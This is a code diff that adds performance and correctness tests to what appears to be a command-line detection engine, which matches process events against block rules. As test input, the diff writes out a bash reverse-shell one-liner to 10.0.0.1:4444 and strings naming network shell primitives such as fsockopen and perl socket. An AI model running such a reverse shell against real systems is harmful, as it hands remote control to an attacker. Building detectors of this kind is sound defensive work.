@@ -14,7 +14,10 @@ from typing import Any
 
 import pytest
 
+from shellsieve.compile.ruleset import Ruleset
 from shellsieve.events.argv import split_posix, split_windows
+from shellsieve.run.match import BlockMatcher
+from shellsieve.run.stats import Stats
 
 
 def _lines_run(fn: Callable[[], Any]) -> int:
@@ -65,3 +68,53 @@ class TestArgv:
         line = '"' + "a" * 65_536 + '" x'
         assert split_windows(line) == ["a" * 65_536, "x"]
         assert _lines_run(lambda: split_windows(line)) < 200
+
+
+def _callbacks(fn: Callable[[], Any]) -> int:
+    """Hyperscan match callbacks (Python functions Hyperscan calls back) made while `fn()` runs."""
+    count = 0
+
+    def profile(frame: Any, event: str, arg: Any) -> None:
+        nonlocal count
+        if event == "call" and frame.f_code.co_name in ("_on_raw", "_on_single"):
+            count += 1
+
+    sys.setprofile(profile)
+    try:
+        fn()
+    finally:
+        sys.setprofile(None)
+    return count
+
+
+def _ecs(command_line: bytes) -> bytes:
+    return b'{"process":{"command_line":"' + command_line + b'"}}\n'
+
+
+class TestMatchExplosion:
+    @pytest.mark.parametrize("unit", [b"\\/", b"socket.socket ", b'\\"perl socket ', b"fsockopen( /bin/ "])
+    def test_callbacks_bounded_by_patterns_per_event(self, shipped: Ruleset, unit: bytes) -> None:
+        """A 256 KiB command line of a literal that fires at every repeat (the escape marker, a
+        keyed literal, a join's last set after its first): at most two callbacks per line pattern
+        for the event, however long the line (one per repeat before: one per 2 bytes for `\\/`)."""
+        line = _ecs(unit * (262_144 // len(unit)))
+        matcher = BlockMatcher(shipped, Stats())
+        n = _callbacks(lambda: matcher.process(line))
+        assert n <= 2 * (max(shipped.format_ids) + 1)  # the line patterns: format markers come last
+
+    def test_long_line_still_matches_after_the_rescan(self, shipped: Ruleset) -> None:
+        """The single-match rescan keeps every candidate: a reverse shell padded with 200 KB of
+        `\\/` escapes is still alerted, and the short lines of the same block keep their output."""
+        shell = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 "
+        event = (b'{"process":{"name":"bash","command_line":"' + shell + b"\\/" * 100_000
+                 + b'","args":["bash","-i"],"parent":{"name":"nginx"}},"event":{"category":["process"],'
+                 b'"type":["start"]},"host":{"os":{"type":"linux"}}}\n')
+        short = b'{"process":{"name":"ls","command_line":"ls -l"}}\n'
+        block = short + event + short
+        fast = BlockMatcher(shipped, Stats())
+        out = fast.process(block).splitlines()
+        assert fast.rescanned_blocks == 1
+        reference = BlockMatcher(shipped, Stats(), prefilter=False).process(block).splitlines()
+        assert out == reference
+        assert b'"kind":"alert"' in out[1]
+        assert out[0] + b"\n" == short and out[2] + b"\n" == short
